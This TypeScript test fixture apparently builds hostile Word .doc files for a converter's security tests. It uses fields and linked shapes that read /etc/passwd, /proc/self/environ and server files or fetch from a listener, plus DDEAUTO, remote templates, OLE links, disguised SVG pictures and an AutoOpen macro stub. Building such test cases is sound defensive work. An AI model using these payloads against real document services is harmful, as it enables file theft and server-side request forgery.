import { deflateSync, gzipSync } from 'node:zlib'
import {
  artRecord,
  artText,
  blip,
  blipTypes,
  drawingGroup,
  shape,
  storeEntry,
  textPicture,
} from '../support/doc-drawings.ts'
import {
  type DocParts,
  docFile,
  type Entry,
  field,
  pictureAt,
  plc,
  type Run,
  restAt,
  special,
  sprm,
  text,
} from '../support/doc-file.ts'
import type { HostileFile, Targets } from './hostile-file.ts'

/** Types of fields (MS-DOC 2.9.90) that load what their code names. */
const [REF, IF, INCLUDE, DDE_AUTO, LINK, DATABASE] = [3, 7, 36, 46, 56, 59]
const [INCLUDE_PICTURE, INCLUDE_TEXT, CONTROL, HYPERLINK] = [67, 68, 87, 88]

const includePicture = (target: string, result?: Run[]) =>
  field(INCLUDE_PICTURE, ` INCLUDEPICTURE "${target}" \\d \\* MERGEFORMAT `, result)
const includeText = (target: string) => field(INCLUDE_TEXT, ` INCLUDETEXT "${target}" `)

const PICTURE = 'INCLUDEPICTURE'
/** Property ids of a shape and of its fill: the picture, its file name and its flags (MS-ODRAW 2.3.7, 2.3.23). */
const [SHAPE_PICTURE, SHAPE_FILE, SHAPE_FLAGS] = [0x4104, 0x105, 0x106]
const [FILL_KIND, FILL_PICTURE, FILL_FILE, FILL_FLAGS, FILL_STYLE] = [0x180, 0x4186, 0x187, 0x188, 0x1bf]
const LINKED = 0x0a
const LINK_TO_CLICK = 0x382

const svg = (href: string) =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200"><image width="200" height="200" xlink:href="${href}"/></svg>`,
  )

const fileUrl = (path: string) => `file://${path}`

/** A document with one picture in its text. */
const withPicture = (picture: Buffer, more: DocParts = {}) =>
  docFile({ main: [text('A picture: '), pictureAt(0x10)], data: Buffer.concat([Buffer.alloc(0x10), picture]), ...more })

const inlineBlip = (type: 'png' | 'jpeg' | 'dib' | 'tiff' | 'emf' | 'wmf', bytes: Uint8Array) =>
  withPicture(
    textPicture(0x64, Buffer.concat([shape(1025, [[SHAPE_PICTURE, 1]]), storeEntry(null, blip(type, bytes))])),
  )

const floating = (properties: Parameters<typeof shape>[1], entries: Buffer[] = [], kind?: number) =>
  drawings(drawingGroup(entries, [shape(1025, properties, kind)]))

const drawings = (group: Buffer, more: DocParts = {}) =>
  docFile({
    main: [{ text: '\x08', properties: special }, text('A shape.')],
    drawings: { group, anchors: [1025] },
    ...more,
  })

const pascal = (name: string) => Buffer.concat([Buffer.from([name.length]), Buffer.from(name, 'latin1')])

const one = (name: string, make: (targets: Targets) => Uint8Array): HostileFile => ({
  name,
  filename: 'contract.doc',
  make,
})

/** A picture in the WordDocument stream after the text, and a store entry that points to it. */
function delayed(bytes: Uint8Array): Uint8Array {
  const picture = blip('png', bytes)
  const main = [{ text: '\x08', properties: special }, text('A shape.')]
  const entry = storeEntry(restAt({ main }), picture)
  return drawings(drawingGroup([entry], [shape(1025, [[SHAPE_PICTURE, 1]])]), { main, rest: picture })
}

/** Text that is read as a picture because a store entry points into it. */
function pictureAsText(bytes: Uint8Array): Uint8Array {
  const picture = blip('png', bytes)
  const hidden = picture.length % 2 ? Buffer.concat([picture, Buffer.alloc(1)]) : picture
  const main = [{ text: '\x08', properties: special }, text(hidden.toString('utf16le'))]
  return drawings(drawingGroup([storeEntry(1536 + 2, picture)], [shape(1025, [[SHAPE_PICTURE, 1]])]), { main })
}

/** Bytes that begin as a PNG if read by the record type, and are a packed metafile if read by the instance. */
function maskedMetafile(packed: Buffer): Buffer {
  const head = Buffer.alloc(16 + 34)
  head.write('89504e470d0a1a0a', 17, 'hex')
  head[16 + 32] = 0
  return Buffer.concat([head, packed])
}

/** A property list that is also an entry of a picture store, with its picture. */
function pictureAsProperties(bytes: Buffer): Buffer {
  const picture = blip('png', bytes)
  const list = Buffer.alloc(8 + 36 + picture.length)
  list.writeUInt16LE(list.length - 2, 0)
  // read as a list, this is a property of three bytes, then the definition of a table; read as a drawing, an entry and
  // its length
  list.writeUInt16LE(0xf007, 2)
  list.writeUInt16LE(0xd608, 7)
  list.writeUInt16LE(list.length - 11 + 1, 9)
  picture.copy(list, 8 + 36)
  return list
}

/** Text that is also a formatting page, which makes one character a picture at `place`. */
function pagesInText(place: number): Run[] {
  const page = Buffer.alloc(512)
  page.writeUInt32LE(1536, 0)
  page.writeUInt32LE(1538, 4)
  page[8] = 200
  const properties = Buffer.concat([sprm(0x6a03, place, 4), special])
  page[400] = properties.length
  properties.copy(page, 401)
  page[511] = 1
  return [pictureAt(0x10), text(Buffer.concat([Buffer.alloc(510, 0x20), page]).toString('utf16le'))]
}

/** Sets the first character page and the number of such pages where Word 6 had them (reserved since). */
function withPagesInText(file: Uint8Array): Uint8Array {
  const bytes = Buffer.from(file)
  const block = bytes.indexOf(Buffer.from([0xec, 0xa5, 0xc1, 0]))
  bytes.writeUInt32LE(4, block + 112)
  bytes.writeUInt32LE(2, block + 116)
  return bytes
}

/** An OLE link to a file: a moniker in the stream that names the target of a linked object (MS-OLEDS 2.3.3). */
function linkedObject(path: string): Entry {
  const name = Buffer.from(`${path}\0`, 'latin1')
  const head = Buffer.alloc(20)
  head.writeUInt32LE(0x0200_0001, 0)
  head.writeUInt32LE(1, 4)
  const moniker = Buffer.concat([
    Buffer.from('0303000000000000c000000000000046', 'hex'),
    Buffer.from([0, 0]),
    Buffer.from(Uint32Array.of(name.length).buffer),
    name,
    Buffer.alloc(24),
  ])
  const size = Buffer.from(Uint32Array.of(moniker.length).buffer)
  return {
    name: 'ObjectPool',
    entries: [
      {
        name: '_4711',
        entries: [
          { name: '\x01Ole', bytes: Buffer.concat([head, size, moniker]) },
          { name: '\x03ObjInfo', bytes: Buffer.from([0, 0x10, 3, 0, 4, 0]) },
        ],
      },
    ],
  }
}

const objectRun = (place: number): Run => ({
  text: '\x01',
  properties: Buffer.concat([
    sprm(0x680e, place, 4),
    sprm(0x0856, 1, 1),
    sprm(0x080a, 1, 1),
    sprm(0x6a03, place, 4),
    special,
  ]),
})

/** A table of 16-bit strings (MS-DOC 2.2.4). */
function strings(...all: string[]): Buffer {
  const rows = all.map(row =>
    Buffer.concat([Buffer.from(Uint16Array.of(row.length).buffer), Buffer.from(row, 'utf16le')]),
  )
  return Buffer.concat([Buffer.from(Uint16Array.of(0xffff, all.length, 0).buffer), ...rows])
}

/** DOC files that try to read a target, to reach a listener, or to leave something behind. */
export const docCases: HostileFile[] = [
  one('a field that shows a picture of the server', ({ files }) => docFile({ main: includePicture(files.png) })),
  one('a field that shows a picture of the server by URL', ({ files }) =>
    docFile({ main: includePicture(fileUrl(files.svg)) }),
  ),
  one('a field that shows a picture of a listener', ({ listener }) =>
    docFile({ main: includePicture(`${listener}/picture.png`) }),
  ),
  one('a field that shows a picture, cut into pieces of five 8-bit characters', ({ files }) =>
    docFile({ pieceLength: 5, main: includePicture(files.png) }),
  ),
  one('a field that shows a picture, in a header', ({ files }) => docFile({ header: includePicture(files.png) })),
  one('a field with the type of a picture and the code of a hyperlink', ({ files }) =>
    docFile({ main: field(INCLUDE_PICTURE, ` HYPERLINK "${files.png}" `) }),
  ),
  one('a field with the type of a hyperlink and the code of a picture', ({ files }) =>
    docFile({ main: field(HYPERLINK, ` ${PICTURE} "${files.png}" `) }),
  ),
  one('a field that shows a picture, in the result of a reference', ({ files }) =>
    docFile({ main: field(HYPERLINK, ' HYPERLINK "https://example.com/" ', includePicture(files.png)) }),
  ),
  one('a field that shows a picture, in the code of a condition', ({ files }) =>
    docFile({ main: field(IF, [text(' IF 1 = 1 '), ...includePicture(files.png)]) }),
  ),
  one('a field that shows a picture, in the result of included text', ({ files }) =>
    docFile({ main: field(INCLUDE_TEXT, ` INCLUDETEXT "${files.docx}" `, includePicture(files.png)) }),
  ),
  one('a field that includes a text of the server', ({ files }) => docFile({ main: includeText(files.txt) })),
  one('a field that includes another document of the server', ({ secrets }) =>
    docFile({ main: field(INCLUDE, ` INCLUDE "${secrets.otherFile}" `) }),
  ),
  one('a field that includes the list of users', () => docFile({ main: includeText('/etc/passwd') })),
  one('a field that includes the environment', () => docFile({ main: includeText('file:///proc/self/environ') })),
  one('a field that includes a page of a listener', ({ listener }) =>
    docFile({ main: includeText(`${listener}/text.html`) }),
  ),
  one('a field that is linked to a table of the server', ({ files }) =>
    docFile({ main: field(LINK, ` LINK Excel.Sheet.8 "${files.csv}" "A1" \\a \\r `) }),
  ),
  one('a field that asks another program', ({ files }) =>
    docFile({ main: field(DDE_AUTO, ` DDEAUTO soffice "${files.txt}" "A1" `) }),
  ),
  one('a field that queries a database of files', ({ files }) =>
    docFile({ main: field(DATABASE, ` DATABASE \\d "${files.csv}" \\s "SELECT * FROM x" `) }),
  ),
  one('a reference whose code is that of included text', ({ files }) =>
    docFile({ main: field(REF, ` INCLUDETEXT "${files.txt}" `) }),
  ),
  one('a picture in the text that is a file name', ({ files }) => withPicture(textPicture(94, pascal(files.png)))),
  one('a picture in the text that is the address of a listener', ({ listener }) =>
    withPicture(textPicture(94, pascal(`${listener}/picture.png`))),
  ),
  one('a drawing in the text whose picture is in a file', ({ files }) =>
    withPicture(
      textPicture(
        0x66,
        Buffer.concat([
          pascal(files.png),
          shape(1025, [
            [SHAPE_FILE, artText(files.png)],
            [SHAPE_FLAGS, LINKED],
          ]),
        ]),
      ),
    ),
  ),
  one('a shape whose picture is in a file', ({ files }) =>
    floating([
      [SHAPE_FILE, artText(fileUrl(files.png))],
      [SHAPE_FLAGS, LINKED],
    ]),
  ),
  one('a shape whose picture is at a listener', ({ listener }) =>
    floating([
      [SHAPE_FILE, artText(`${listener}/picture.png`)],
      [SHAPE_FLAGS, LINKED],
    ]),
  ),
  one('a shape whose picture is in a file instead of the store', ({ files }) =>
    floating([
      [SHAPE_PICTURE, 7],
      [SHAPE_FILE, artText(files.png)],
      [SHAPE_FLAGS, 0x0e],
    ]),
  ),
  one('a shape that is filled with a picture in a file', ({ files }) =>
    floating(
      [
        [FILL_KIND, 3],
        [FILL_PICTURE, 7],
        [FILL_FILE, artText(fileUrl(files.png))],
        [FILL_FLAGS, LINKED],
        [FILL_STYLE, 0x0010_0010],
      ],
      [],
      1,
    ),
  ),
  one('a PNG in the text that is an SVG with a picture of the server', ({ files }) =>
    inlineBlip('png', svg(fileUrl(files.png))),
  ),
  one('a JPEG in the text that is a packed SVG with a picture of the server', ({ files }) =>
    inlineBlip('jpeg', gzipSync(svg(fileUrl(files.png)))),
  ),
  one('a TIFF in the text that is an SVG with a picture of a listener', ({ listener }) =>
    inlineBlip('tiff', svg(`${listener}/picture.png`)),
  ),
  one('a metafile in the text that is an SVG with a picture of the server', ({ files }) =>
    inlineBlip('emf', svg(fileUrl(files.png))),
  ),
  one('a PNG in the text whose instance says metafile, and which is an SVG', ({ files }) => {
    const packed = deflateSync(svg(fileUrl(files.png)))
    const record = artRecord(blipTypes.png, maskedMetafile(packed), 0, 0x216)
    return withPicture(textPicture(0x64, Buffer.concat([shape(1025, [[SHAPE_PICTURE, 1]]), storeEntry(null, record)])))
  }),
  one('a shape without a picture, followed by properties that hide one', ({ files }) => {
    const own = textPicture(0x64, shape(1025, [[SHAPE_PICTURE, 1]]))
    const data = Buffer.concat([Buffer.alloc(0x10), own, pictureAsProperties(svg(fileUrl(files.png)))])
    const properties = Buffer.concat([sprm(0x6a03, 0x10, 4), sprm(0x6646, 0x10 + own.length, 4), special])
    return docFile({ main: [{ text: '\x01', properties }], data })
  }),
  one('formatting pages in the text, which reserved page numbers point to', ({ files }) => {
    const inner = textPicture(94, pascal(files.png))
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), inner])
    const content = Buffer.concat([shape(1025, [[SHAPE_PICTURE, 1]]), storeEntry(null, blip('png', png))])
    const data = Buffer.concat([Buffer.alloc(0x10), textPicture(0x64, content)])
    return withPagesInText(docFile({ main: pagesInText(data.indexOf(inner)), data }))
  }),
  one('a PNG of a shape, after the text, that is an SVG with a picture of the server', ({ files }) =>
    delayed(svg(fileUrl(files.png))),
  ),
  one('a PNG of a shape, written as characters of the text', ({ files }) => pictureAsText(svg(fileUrl(files.png)))),
  one('a location that leads into the bytes of another picture', ({ files }) => {
    const inner = textPicture(94, pascal(files.png))
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), inner])
    const outer = textPicture(
      0x64,
      Buffer.concat([shape(1025, [[SHAPE_PICTURE, 1]]), storeEntry(null, blip('png', png))]),
    )
    const data = Buffer.concat([Buffer.alloc(0x10), outer])
    return docFile({ main: [pictureAt(0x10), pictureAt(data.indexOf(inner))], data })
  }),
  one('a location in WordDocument, where there is no Data', ({ files }) => {
    const main = [text('A picture: '), pictureAt(0)]
    main[1] = pictureAt(restAt({ main }))
    return docFile({ main, rest: textPicture(94, pascal(files.png)) })
  }),
  one('an object that is linked to a file', ({ files }) =>
    docFile({
      main: field(LINK, ` LINK Word.Document.8 "${files.docx}" `, [objectRun(4711)]),
      others: [linkedObject(files.docx)],
    }),
  ),
  one('a control that shows a page of a listener', ({ listener }) =>
    docFile({
      main: field(CONTROL, ' CONTROL Shell.Explorer.2 ', [objectRun(4711)]),
      others: [linkedObject(`${listener}/page.html`)],
    }),
  ),
  one('an attached template from a listener', ({ listener }) =>
    docFile({ structures: { 32: strings('', `${listener}/template.dot`, ...Array(16).fill('')) } }),
  ),
  one('subdocuments of the server', ({ files }) =>
    docFile({ structures: { 54: plc([0, 21], [Buffer.alloc(12)]), 72: strings(files.docx) } }),
  ),
  one('a program that runs when the document is opened, and commands for it', () =>
    docFile({
      structures: { 24: Buffer.from('ff0100000000', 'hex') },
      others: [
        {
          name: 'Macros',
          entries: [
            {
              name: 'PROJECT',
              bytes: Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=AutoOpen\r\n'),
            },
            {
              name: 'VBA',
              entries: [
                { name: 'dir', bytes: Buffer.alloc(64) },
                { name: 'AutoOpen', bytes: Buffer.alloc(64) },
              ],
            },
          ],
        },
      ],
    }),
  ),
  one('a shape that opens a file of the server when it is clicked', ({ files }) =>
    floating([[LINK_TO_CLICK, artText(fileUrl(files.txt))]], [], 1),
  ),
]
